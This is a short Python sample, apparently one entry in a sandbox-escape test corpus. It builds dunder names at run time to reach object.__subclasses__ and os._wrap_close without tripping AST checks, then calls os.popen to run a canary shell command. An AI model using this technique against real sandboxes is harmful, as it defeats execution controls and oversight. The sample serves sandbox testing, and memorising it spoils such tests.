# Technique: type.__dict__ holds the __subclasses__ descriptor; calling it on object walks every loaded class to
#            os._wrap_close, whose __init__.__globals__ is the os module's namespace - names built at run time, so
#            no __subclasses__ or __globals__ attribute access appears in the AST
# Goal: d (run a shell command)
# Source: written for codeloop (variant of the corpus's 021/041/049 through a class __dict__ and getattr)
# Requires: stdlib
u = "_" * 2
walker = type.__dict__[u + "subclasses" + u]
for cls in walker(object):
    if cls.__name__ == "_wrap_close":
        os_namespace = getattr(cls.__init__, u + "globals" + u)
        print(os_namespace["popen"]("id; echo SHELL-ESCAPE-$((6*7)); touch /tmp/canary/shell_ran").read())
        break
